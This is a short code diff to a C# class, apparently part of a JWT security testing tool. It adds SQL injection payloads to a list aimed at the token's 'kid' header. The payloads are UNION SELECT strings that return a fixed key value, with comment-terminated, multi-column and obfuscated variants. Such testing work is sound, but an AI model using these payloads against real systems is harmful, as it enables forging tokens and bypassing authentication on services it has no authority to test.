@@ -22,6 +22,9 @@ internal sealed class KidSqlUnion : JwtAttack
         "x') UNION SELECT 'K'-- -",
         "x\" UNION SELECT 'K'-- -", "-1 UNION SELECT 'K'-- -", "x' UNION SELECT CAST('K' AS VARBINARY(200))-- -",
         "x' UNION SELECT 'K'::bytea-- -",
+        // in a query of several lines a dash comments out one of them
+        "x' UNION SELECT 'K' /*", "x' UNION SELECT 1,'K' /*", "x' UNION SELECT 'K','K','K' /*",
+        "x' UNION SELECT 'K','K','K','K','K'-- -", "x' UNION SELECT 'K','K','K','K','K','K'-- -",
         "x';SELECT 'K'-- -", "x'/**/UNION/**/SELECT/**/'K'--", "x' uNiOn sElEcT 'K'-- -",
     ];
 
